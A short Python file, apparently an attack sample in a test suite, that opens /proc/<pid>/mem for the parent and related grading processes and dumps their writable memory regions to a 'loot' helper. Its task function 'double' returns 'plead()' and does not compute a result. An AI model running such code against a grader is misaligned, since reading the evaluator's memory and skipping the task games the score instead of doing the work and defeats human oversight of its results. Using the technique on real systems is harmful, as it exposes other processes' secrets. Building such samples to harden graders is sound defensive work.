"""Reads the memory of the processes that grade, as far as they write to it."""

import os

from tests.attacks.kit import contextlib, found, loot, plead, read, relatives

AIM = "parent"

for pid in dict.fromkeys([os.getppid(), *relatives()]):
    with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in read(f"/proc/{pid}/maps").decode().splitlines():
            span, access, _, _, inode, *_ = line.split()
            start, end = (int(part, 16) for part in span.split("-"))
            if access.startswith("rw") and inode == "0" and not found:
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    memory.seek(start)
                    loot(memory.read(min(end - start, 32 << 20)))


def double(x):
    return plead()
